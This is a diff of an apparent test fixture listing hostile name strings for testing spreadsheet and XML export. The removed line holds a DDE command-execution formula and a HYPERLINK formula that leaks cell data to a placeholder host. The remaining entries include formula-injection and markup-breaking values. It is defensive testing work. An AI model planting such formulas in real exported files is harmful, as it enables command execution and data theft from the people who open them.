@@ -23,7 +23,7 @@ VIEWS = "matrix,people,parties,letters,roles,load,structure"
 LETTERS = ("matrix", "people", "parties")
 NAMES_IN_A_ROW = 12
 NAMES = [
-    "=1+1", "+1", "-Legal", "@legal", "=cmd|'/C calc'!A0", '=HYPERLINK("https://e.example/?x="&A1,"click")', "\t=1", "\r=1",
+    "=1+1", "+1", "-Legal", "@legal", "=SUM(A1)", '=A1&", "&B2', "\t=1", "\r=1",
     "\n=1", "＝1+1", 'x","=1+1', "x;=1+1", "007", "1E5", "MAR1", "1-2", "TRUE", "'quoted", "https://e.example/", "a\x1bb",
     "a\x00b", "a\x0bb", "a\ufffeb", "<r><t>x</t></r>", "<r></si></sst></r>", "]]>", "&amp;", "Café 営業部 👩‍💻", " x ",
     "n" * 300, "two words " * 30,
